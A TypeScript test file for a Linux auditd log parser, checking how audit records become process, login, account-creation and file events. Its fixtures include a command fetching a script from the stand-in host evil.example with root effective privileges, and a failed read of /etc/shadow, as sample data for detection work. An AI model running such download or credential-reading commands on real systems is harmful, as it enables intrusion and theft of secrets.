import path from "node:path";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { parser } from "./index.ts";
import { defineFixtureTests, fixtureEvents } from "../fixture-test.ts";
import { runParser } from "../conformance.ts";

const FIXTURES = path.join(path.dirname(fileURLToPath(import.meta.url)), "fixtures");
type Auditd = { message_type: string[]; sequence: number; data: Record<string, unknown>; paths?: Array<Record<string, string>> };

describe("linux-auditd parser", () => {
  defineFixtureTests(parser, FIXTURES);
  const { events, rejections } = fixtureEvents(parser, FIXTURES, "audit.log");
  const bySeq = (n: number) => events.find((e) => (e.auditd as Auditd).sequence === n)!;

  it("joins the records of one serial into one process event with decoded arguments", () => {
    const e = bySeq(8812);
    const a = e.auditd as Auditd;
    expect(a.message_type).toEqual(["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"]);
    expect(e.event).toMatchObject({ category: ["process"], type: ["start"], outcome: "success", action: "syscall", module: "auditd" });
    expect(e.process).toMatchObject({
      pid: 2255,
      parent: { pid: 2211 },
      executable: "/usr/bin/curl",
      name: "curl",
      args: ["curl", "-s", "https://evil.example/x.sh", "-o/tmp/x.sh"],
      command_line: "curl -s https://evil.example/x.sh -o/tmp/x.sh",
      working_directory: "/home/deploy",
      title: "curl -s https://evil.example/x.sh -o/tmp/x.sh",
    });
    expect(e.user).toMatchObject({ id: "1001", audit: { id: "1001" }, effective: { id: "0" } });
    expect(a.data.a2).toBe("https://evil.example/x.sh");
    expect(a.data.name).toEqual(["/usr/bin/curl", "/lib64/ld-linux-x86-64.so.2"]);
    expect(a.paths).toHaveLength(2);
    expect(e.tags).toEqual(["net_tools"]);
    expect(e.host?.architecture).toBe("x86_64");
    expect(e.event.original?.split("\n")).toHaveLength(7);
  });

  it("maps user-space records to authentication and iam events with the peer address", () => {
    const login = bySeq(8820);
    expect(login.event).toMatchObject({ category: ["authentication", "session"], outcome: "success" });
    expect(login.source).toMatchObject({ ip: "203.0.113.50" });
    const auth = bySeq(8821);
    expect(auth.event.outcome).toBe("failure");
    expect(auth.user?.name).toBe("admin");
    expect(bySeq(8840).event).toMatchObject({ category: ["iam"], type: ["user", "creation"] });
  });

  it("maps file syscalls to file events with the path resolved against the cwd", () => {
    const e = bySeq(8830);
    expect(e.event).toMatchObject({ category: ["file"], outcome: "failure" });
    expect(e.file).toEqual({ path: "/etc/shadow", name: "shadow" });
  });

  it("reads the node= prefix, hex cmd values and enriched fields", () => {
    const cmd = bySeq(8850);
    expect(cmd.host?.name).toBe("web-3");
    expect(cmd.process?.command_line).toBe("systemctl restart nginx");
    const enriched = bySeq(8860);
    expect(enriched.user?.name).toBe("root");
    expect((enriched.user as { audit: { name: string } }).audit.name).toBe("deploy");
    expect((enriched.auditd as Auditd).data.SYSCALL).toBe("execve");
    expect(rejections.map((r) => r.code)).toEqual(["auditd_bad_record"]);
  });

  it("emits a stand-alone record at once and holds at most a few incomplete events", () => {
    const r = runParser(parser, Array.from({ length: 20 }, (_, i) => `type=SYSCALL msg=audit(1730369600.000:${100 + i}): arch=c000003e syscall=2 success=yes exit=3 pid=${i} comm="x" exe="/x"`));
    expect(r.events).toHaveLength(20);
  });
});
